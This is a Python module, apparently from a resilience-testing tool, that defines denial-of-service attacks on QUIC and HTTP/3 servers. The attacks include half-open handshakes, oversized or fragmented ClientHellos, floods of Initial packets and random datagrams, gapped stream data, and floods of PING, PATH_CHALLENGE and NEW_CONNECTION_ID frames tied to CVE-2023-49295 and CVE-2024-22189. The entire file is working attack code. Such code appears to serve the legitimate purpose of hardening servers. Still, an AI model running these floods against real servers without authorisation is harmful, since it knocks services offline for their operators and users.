"""Attacks on QUIC itself."""
import os
import random
import socket
import struct

import h3
import quic
import quic_wire
from catalogue import attack
from over_h3 import flood
from quic_wire import stream_frame, varint


def half_open(run, count, padding):
    """Handshakes that answer a Retry and then say nothing; begun again when the server gives up."""
    begun = []

    def begin():
        one = quic.Connection(run, padding=padding, acks=False)
        one.advance = lambda: None  # nothing after the first flight
        one.send_hello()
        return one

    while run.on():
        fresh = [begin() for _ in range(min(20, count - len(begun)))]
        begun += fresh
        run.pause(0.01)
        for one in begun:
            if not one.over:
                one.pump()
        begun = [one for one in begun if not one.over]
    for one in begun:
        one.end("fell silent")


@attack("half-open", "h3", "F4, Q-03",
        "1,000 QUIC handshakes of one address that are never finished", silent=True)
def half_open_plain(run):
    half_open(run, 1000, 0)


@attack("half-open-large", "h3", "A1, F6, Q-11",
        "as many as go out, each with a ClientHello of 100 KiB", silent=True)
def half_open_large(run):
    half_open(run, 1000, 100 << 10)


@attack("half-open-gaps", "h3", "F6, Q-11",
        "200 of them, whose ClientHello comes in pieces of a byte with gaps", silent=True)
def half_open_gaps(run):
    begun, reached = [], {}
    while run.on():
        if len(begun) < 200:
            one = quic.Connection(run, acks=False)
            one.advance = lambda: None
            one.send_hello = lambda one=one: one.datagram(
                one.packet(quic.SPACE_INITIAL, quic_wire.crypto_frame(1, b"a"), True))
            one.send_hello()
            begun.append(one)
            reached[one] = 3
            one.pump(0.002)  # a Retry
        for one in begun:
            first = reached[one]
            reached[one] = first + 400
            pieces = b"".join(quic_wire.crypto_frame(at, b"a") for at in range(first, first + 400, 2))
            if not one.over and first < 12000:
                one.datagram(one.packet(quic.SPACE_INITIAL, pieces, True))
            if not run.on():
                break
        run.pause(0.001)
    for one in begun:
        one.end("fell silent")


@attack("initials", "h3", "Q-03", "first datagrams of new handshakes, as many as go out", silent=True)
def initials(run):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((run.target.source, 0))
    first = quic.Connection(run)
    while run.on():
        for _ in range(50):
            run.opened()
            first.destination_id = os.urandom(8)
            first.initial_keys()
            data = first.packet(quic.SPACE_INITIAL, quic_wire.crypto_frame(0, first.tls.hello), True)
            run.bytes += sender.sendto(data, (run.target.address, run.target.port))
        run.pause(0.001)
    first.end("fell silent")
    sender.close()


@attack("datagrams", "h3", "Q-02, Q-08, Q-26",
        "random datagrams with short and long headers of all lengths")
def datagrams(run):
    rng = random.Random(15)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((run.target.source, 0))
    heads = (b"", b"\x40", b"\xe0\0\0\0\0", b"\xc0" + struct.pack(">I", quic.VERSION),
             b"\xc0" + struct.pack(">I", 0x1A2A3A4A))
    while run.on():
        for _ in range(50):
            data = rng.choice(heads) + rng.randbytes(rng.choice((0, 1, 20, 40, 100, 1195, 1400)))
            run.bytes += sender.sendto(data, (run.target.address, run.target.port))
        run.pause(0.001)
    sender.close()


@attack("gaps", "h3", "F6, A2, Q-13",
        "pieces of a byte with gaps in 100 streams each, on 10 connections")
def gaps(run):
    sessions = run.many(10, lambda: h3.connect(run))
    at = 1
    while run.on() and sessions:
        sessions = ([session for session in sessions if not session.over]
                    or run.many(1, lambda: h3.connect(run)))
        for session in sessions:
            if at < 8000:
                session.send([stream_frame(4 * i, at + 2 * j, b"a")
                              for i in range(100) for j in range(50)])
            session.pump()
        at += 100
        if at >= 8000:
            run.pause(0.1)
    for session in sessions:
        session.close()


def quic_flood(name, source, does, make, acks=True):
    @attack(name, "h3", source, does)
    def run_it(run):
        flood(run, lambda session, count: [make(count * 500 + i) for i in range(500)], acks=acks)


quic_flood("quic-pings", "Q-15, H2-07",
           "PING frames, a packet of many", lambda i: bytes([quic_wire.PING]) * 50)
quic_flood("path-challenges", "Q-09, CVE-2023-49295",
           "PATH_CHALLENGE frames, whose responses are not acknowledged",
           lambda i: bytes([quic_wire.PATH_CHALLENGE]) + struct.pack(">Q", i), acks=False)
quic_flood("connection-ids", "Q-10, CVE-2024-22189",
           "NEW_CONNECTION_ID frames that retire those before",
           lambda i: bytes([quic_wire.NEW_CONNECTION_ID]) + varint(i + 1) + varint(i + 1) + b"\x08"
           + struct.pack(">Q", i) + os.urandom(16), acks=False)


@attack("quic-key-updates", "h3", "Q-19", "QUIC key updates, each after the one before is acknowledged")
def key_updates(run):
    while run.on():
        session = h3.connect(run)
        if session is None:
            run.pause(0.1)
            continue
        while run.on() and not session.over:
            session.update_keys()
            before, data = session.spaces[quic.SPACE_DATA].receive, session.spaces[quic.SPACE_DATA]
            while data.receive is before and run.on() and not session.over:
                # Not taken until three PTO after the update before.
                session.send([bytes([quic_wire.PING])])
                session.pump(0.005)
        session.close()
